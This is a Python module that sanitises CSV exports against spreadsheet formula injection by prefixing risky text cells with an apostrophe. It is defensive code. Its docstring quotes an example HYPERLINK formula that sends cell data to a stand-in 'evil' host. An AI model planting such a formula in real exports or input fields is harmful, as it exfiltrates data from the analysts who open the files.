"""Spreadsheet-safe CSV (OWASP "CSV injection"): the one writer of every CSV export (the API's
score log, /v1/verifications.csv, and the review desk's, /review/export.csv).

The exports are opened in Excel or LibreOffice by analysts; a text cell that starts with = + - @,
a tab or a carriage return is read there as a formula, so a caller who chose the speaker id
`=HYPERLINK("http://evil/?"&A1)` (or a watchlist label) could run one on the analyst's machine.
Such text cells get a leading apostrophe, which spreadsheets show as text; numbers stay numbers
(a negative score is data, not a formula); None is an empty cell.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: object) -> object:
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


def safe_row(values: Iterable[object]) -> list[object]:
    return [safe_cell(v) for v in values]


def csv_text(header: Sequence[str], rows: Iterable[Sequence[object]]) -> str:
    """The CSV document: `header`, then each row with every cell made spreadsheet-safe."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(safe_row(header))
    writer.writerows(safe_row(row) for row in rows)
    return out.getvalue()
